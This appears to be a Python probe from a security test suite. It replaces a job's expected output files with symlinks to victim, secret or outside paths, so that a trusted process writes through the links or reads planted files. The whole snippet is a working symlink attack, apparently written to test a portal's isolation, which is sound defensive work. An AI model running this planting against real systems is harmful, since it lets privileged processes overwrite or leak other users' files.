"""Fills its directory with the names that the trusted side will use there.

gains: the trusted side writes through a link, or reads a file that it did not write
limits: timeout_s=6
repeat: 3
ends: any
remains(none): every file that the portal's user can write
"""

own = os.path.dirname(os.getcwd())
target = (V["victim"], V["secret"], V["outside"])[ROUND % 3]
for name in (
    "result.html.part",
    "result.ipynb.part",
    "result.json.part",
    "progress.part",
    "partial.html.part",
    "partial.html",
    "progress",
    "log.txt",
    "figures.json",
    "result.zip",
    "status",
    "job.json",
    "inputs.json",
):
    try:
        path = f"{own}/{name}"
        os.path.lexists(path) and os.unlink(path)
        os.symlink(target, path)
        tried(name)
    except OSError as error:
        say("REFUSED", name, error)
print("x" * 100_000)
time.sleep(0.6)
